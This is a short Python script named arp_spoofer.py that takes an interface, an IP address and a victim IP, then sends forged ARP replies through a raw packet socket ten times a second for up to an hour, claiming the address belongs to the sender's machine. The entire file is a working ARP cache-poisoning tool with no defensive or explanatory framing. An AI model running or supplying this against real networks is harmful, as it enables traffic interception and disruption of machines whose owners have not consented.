#!/usr/bin/env -S python3 -B
"""Tells one machine, again and again, that an address is here: arp_spoofer.py INTERFACE ADDRESS VICTIM. Runs an hour at most."""
import socket
import struct
import sys
import time

REPLIES_PER_SECOND, RUN_SECONDS_MAX = 10, 3600
ETH_P_ARP, BROADCAST = 0x0806, b"\xff" * 6


def main():
    interface, address, victim = sys.argv[1:]
    opened = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, ETH_P_ARP)
    opened.bind((interface, ETH_P_ARP))
    own = opened.getsockname()[4]
    header = BROADCAST + own + struct.pack("!HHHBBH", ETH_P_ARP, 1, 0x0800, 6, 4, 2)  # Ethernet, IPv4, reply
    reply = header + own + socket.inet_aton(address) + BROADCAST + socket.inet_aton(victim)
    stop_at = time.monotonic() + RUN_SECONDS_MAX
    while time.monotonic() < stop_at:
        opened.send(reply)
        time.sleep(1 / REPLIES_PER_SECOND)


if __name__ == "__main__":
    main()
